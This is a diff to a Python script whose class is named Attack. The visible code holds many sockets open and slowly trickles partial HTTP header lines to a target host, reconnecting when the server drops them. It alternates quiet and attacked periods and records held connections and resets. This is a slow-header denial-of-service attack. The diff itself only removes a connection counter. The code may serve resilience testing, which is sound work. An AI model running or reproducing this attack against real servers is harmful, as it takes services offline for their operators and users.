@@ -37,7 +37,7 @@ class Attack:
         self._due: list[tuple[float, int, Callable[[float], None]]] = []
         self._number = itertools.count()
         self._held: list[socket.socket] = []
-        self.most_held = self.resets = self.heads = 0
+        self.most_held = self.resets = 0
 
     def _at(self, when: float, action: Callable[[float], None]) -> None:
         heapq.heappush(self._due, (when, next(self._number), action))
@@ -65,7 +65,6 @@ class Attack:
             sock.send(line)
         except OSError:  # the server has had enough of it
             sock.close()
-            self.heads += 1
             self._begin_head(when)
         else:
             self._at(when + 0.5, lambda now: self._trickle(now, sock, b"X-A: b\r\n"))
@@ -111,8 +110,7 @@ def main(host: str, periods: int, seconds: float) -> dict[str, Any]:
         attack.run(middle + seconds)
         quiet.append((begin, middle))
         attacked.append((middle, time.monotonic()))
-    counts = {"held": attack.most_held, "resets": attack.resets, "heads": attack.heads}
-    return {"quiet": quiet, "attacked": attacked, **counts}
+    return {"quiet": quiet, "attacked": attacked, "held": attack.most_held, "resets": attack.resets}
 
 
 if __name__ == "__main__":
